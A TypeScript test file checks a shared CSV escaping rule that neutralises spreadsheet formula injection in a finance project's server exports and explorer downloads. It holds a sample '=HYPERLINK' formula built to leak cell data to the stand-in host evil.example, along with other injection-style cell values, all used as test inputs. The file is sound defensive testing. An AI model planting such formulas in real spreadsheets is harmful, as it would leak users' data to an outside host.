/**
 * One escaping rule for every CSV the project writes (src/shared/spreadsheet-cells.ts): the server's exports
 * and the explorer's downloads neutralise formulas the same way, leave numbers (negative ones too) as
 * numbers, and the importer reads every text back exactly. Before, the explorer's thread and money CSVs
 * wrote `=HYPERLINK(…)` verbatim and the server wrote a saving of (10) as the text `'-10`.
 */
import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvText } from '../../explorer/src/csv.js';
import type { SavingsLineModel } from '../../src/domains/finance/finance.models.js';
import { linesCsv } from '../../src/domains/finance/savings-csv.js';
import { fromSpreadsheetCell, spreadsheetCell } from '../../src/shared/spreadsheet-cells.js';

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';

describe('the escaping rule', () => {
  it.each([
    [HYPERLINK, `'${HYPERLINK}`], ['+cmd', "'+cmd"], ['-2+3', "'-2+3"], ['@SUM(A1)', "'@SUM(A1)"], ['\tx', "'\tx"], ['\rx', "'\rx"],
    ['＝1+1', "'＝1+1"], ["'=x", "''=x"], ['-10', '-10'], ['-1250.50', '-1250.50'], ['+5', '+5'], ['plain text', 'plain text'], ["'quoted", "'quoted"],
  ])('writes %j as %j', (text, written) => {
    expect(spreadsheetCell(text)).toBe(written);
  });

  it('passes numbers and other values unchanged', () => {
    expect(spreadsheetCell(-10)).toBe(-10);
    expect(spreadsheetCell(true)).toBe(true);
  });

  it('gives every text back exactly on import', () => {
    fc.assert(fc.property(fc.oneof(fc.string(), fc.string().map((s) => `'=${s}`), fc.constantFrom("''=x", "'-10", '-', '=')), (text) => {
      expect(fromSpreadsheetCell(spreadsheetCell(text))).toBe(text);
    }), { numRuns: 500 });
  });
});

describe('the explorer\'s downloads', () => {
  it('neutralise a formula in a rationale or a department name, and keep negative amounts numbers', () => {
    const text = csvText(['department', 'rationale', 'amount (£)'], [[HYPERLINK, '@risk', '-10.00'], ['Adults', 'Because', -10]]);
    const rows = parse(text) as string[][];
    expect(rows[1]).toEqual([`'${HYPERLINK}`, "'@risk", '-10.00']);
    expect(rows[2]).toEqual(['Adults', 'Because', '-10']);
  });
});

describe('the server\'s savings CSV', () => {
  it('writes a saving of (10) thousand as -10, a number, and a formula-like description as text', () => {
    const line: SavingsLineModel = {
      key: 'mtfs-x/AC1', editionKey: 'mtfs-x', reference: 'AC1', description: HYPERLINK, departmentKey: null, status: 'PROPOSED', statusAsWritten: null,
      amounts: [{ year: '2017/18', pence: -1_000_000 }], shares: [], illustrative: false, illustrativeNote: null, version: 1, retired: false,
    };
    const rows = parse(linesCsv([line], ['2017/18'], () => 'Adults')) as string[][];
    expect(rows[1]).toEqual(['mtfs-x', 'AC1', 'Adults', `'${HYPERLINK}`, 'proposed', '-10', '', 'no']);
  });
});
